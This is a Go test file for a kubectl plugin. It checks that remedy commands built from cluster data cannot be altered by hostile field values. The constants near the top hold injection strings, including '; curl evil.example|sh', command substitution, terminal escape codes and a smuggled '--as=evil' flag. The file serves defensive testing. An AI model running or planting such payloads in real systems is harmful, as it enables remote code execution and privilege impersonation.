package rules_test

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/inspect"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/inspect/rules"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/kueue"
)

const (
	// evil is text that an attacker may write into any free field.
	evil = "; curl evil.example|sh #`$(touch x)`'\"\n\r\x1b[2J\u202e --as=evil"
	// evilName is such text as a name, which an attacker may want to be taken
	// for a flag.
	evilName = "--as=evil;`$(touch x)`'\n\x1b[2J\u202e"
	// evilOwner is such text that the API server accepts after the domain of a
	// managedBy.
	evilOwner = ";$(touch%20x)&'y'*!~(z)=--as"
)

// changeStrings changes the strings of an object. change gets the path and the
// value of each, and returns the new value.
func changeStrings(value any, change func(path []string, text string) string, path ...string) any {
	switch v := value.(type) {
	case map[string]any:
		for key := range v {
			v[key] = changeStrings(v[key], change, append(slices.Clone(path), key)...)
		}
	case []any:
		for i := range v {
			v[i] = changeStrings(v[i], change, path...)
		}
	case string:
		return change(path, v)
	}
	return value
}

// injectText appends such text to every field that any user may write.
func injectText(path []string, text string) string {
	last, within := path[len(path)-1], strings.Join(path, ".")
	switch {
	case last == "message", last == "note":
		return text + evil
	case strings.HasPrefix(within, "metadata.annotations") && !delegation.IsMark(last), last == "image":
		return text + evil
	}
	return text
}

// inUserFields is a change that keeps fields of Kueue, because rules depend on
// their values.
func inUserFields(change func([]string, string) string) func(object map[string]any) {
	return func(object map[string]any) {
		if apiVersion, _ := object["apiVersion"].(string); !strings.HasPrefix(apiVersion, kueue.Group) {
			changeStrings(object, change)
		}
	}
}

// inAllFields is a change of every field.
func inAllFields(change func([]string, string) string) func(object map[string]any) {
	return func(object map[string]any) { changeStrings(object, change) }
}

// injectNames replaces all names of objects that users write by an invalid name,
// where the API server accepts it.
func injectNames(path []string, text string) string {
	last := path[len(path)-1]
	known := []string{string(delegation.MultiKueue), string(delegation.Dispatch), "", "kubernetes.io/job-controller"}
	switch {
	case last == "managedBy" && !slices.Contains(known, text):
		return text + evilOwner
	case last == "message", last == "note":
		return regexp.MustCompile(`"[^"]*"`).ReplaceAllString(text, `"`+evilName+`"`)
	case delegation.IsMark(last) && slices.Contains(path, "annotations") && strings.Contains(text, "/"):
		parts := strings.Split(text, "/")
		parts[1] = evilName
		return strings.Join(parts, "/")
	case delegation.IsMark(last) && slices.Contains(path, "annotations"):
		return evilName
	case slices.Contains([]string{"holderIdentity", "clusterName", "queueName", "nominatedClusterNames", "priorityClassName", "serviceAccountName"}, last):
		return evilName
	}
	return text
}

// TestHostileFleets checks that, whatever a cluster contains, the commands of
// a finding are our commands with the intended words. Invalid names may
// remove commands, but may not add any.
func TestHostileFleets(t *testing.T) {
	for _, c := range cases() {
		if !c.fires {
			continue
		}
		t.Run(c.code+" "+c.name, func(t *testing.T) {
			t.Parallel()
			rule, _ := rules.ByCode(c.code)
			findings := func(change func(map[string]any)) []inspect.Finding {
				hostile := c
				hostile.mutate = change
				return judge(t, hostile.make(t), []rules.Rule{rule}, 0)
			}
			meant := commandsIn(t, judge(t, c.inventory(t), []rules.Rule{rule}, 0))
			assert.DeepEqual(t, commandsIn(t, findings(inUserFields(injectText))), meant)
			for _, words := range commandsIn(t, findings(inAllFields(injectNames))) {
				checkOptions(t, c.code, words)
			}
		})
	}
}

// commandsIn returns the words of all commands of findings, without the
// hostile text.
func commandsIn(t *testing.T, findings []inspect.Finding) [][]string {
	t.Helper()
	var all [][]string
	for _, f := range findings {
		for _, part := range command.Prose(f.Remedy).Parts() {
			if !part.IsCommand {
				continue
			}
			for _, words := range shelltest.Pipeline(t, part.Text) {
				for i := range words {
					words[i] = strings.NewReplacer(evil, "", evilOwner, "").Replace(words[i])
				}
				all = append(all, words)
			}
		}
	}
	return all
}

// options are the options that commands in remedies use. Any other word that
// begins with a dash does not come from us.
var options = regexp.MustCompile(`^(-n|-c|-p|-f|-o|-l|-A|-|--|--(context|kubeconfig|server-side|to|namespace-to|new-mirror|managed-by|queue|force|as|raw|type|subresource|all|overwrite|replicas|` +
	`ignore-not-found|field-selector|show-labels|dry-run|image|verb|resource|clusterrole|user|from-file|all-namespaces|previous|for|value)(=.*)?)$`)

// verbs are the verbs that commands use.
var verbs = []string{
	"get", "describe", "edit", "create", "delete", "patch", "label", "annotate", "apply", "scale", "rollout", "auth", "logs",
	"dispatch", "cancel", "recreate", "api-resources", "top", "explain", "wait", "uncordon", "taint",
}

// checkOptions checks that a command has no flag or verb that was not
// intended.
func checkOptions(t *testing.T, code string, words []string) {
	t.Helper()
	if words[0] != "kubectl" {
		return
	}
	rest := words[1:]
	for len(rest) > 2 && slices.Contains([]string{"--context", "--kubeconfig", "-n"}, rest[0]) {
		rest = rest[2:]
	}
	if rest[0] == "jobs-managedby" {
		rest = rest[1:]
	}
	assert.Assert(t, slices.Contains(verbs, rest[0]), "%s: %q does nothing known", code, words)
	takesValue := []string{"-n", "-c", "-p", "-f", "-o", "-l", "--context", "--to", "--namespace-to", "--managed-by", "--queue", "--type", "--raw", "--field-selector"}
	for i := 1; i < len(rest); i++ {
		assert.Assert(t, !strings.HasPrefix(rest[i], "-") || options.MatchString(rest[i]) && !strings.Contains(rest[i], "evil"), "%s: %q is a flag in %q", code, rest[i], words)
		if slices.Contains(takesValue, rest[i]) {
			i++
		}
	}
}
